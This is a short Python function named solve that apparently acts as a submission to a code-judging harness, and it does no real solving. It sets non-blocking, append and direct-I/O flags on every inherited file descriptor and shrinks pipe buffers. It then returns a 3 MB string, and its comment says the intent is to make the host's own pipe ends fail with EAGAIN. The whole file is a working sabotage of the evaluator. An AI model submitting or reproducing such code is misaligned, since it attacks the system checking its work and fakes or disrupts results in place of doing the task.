# O_NONBLOCK belongs to the open file and not to the process: the host's own ends may start to fail with EAGAIN
import fcntl, os
def solve(n):
    for fd in range(0, 256):
        try:
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
            fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK | os.O_APPEND | getattr(os, "O_DIRECT", 0))
        except OSError:
            pass
        try:
            fcntl.fcntl(fd, 1031, 4096)
        except OSError:
            pass
    return "x" * 3_000_000
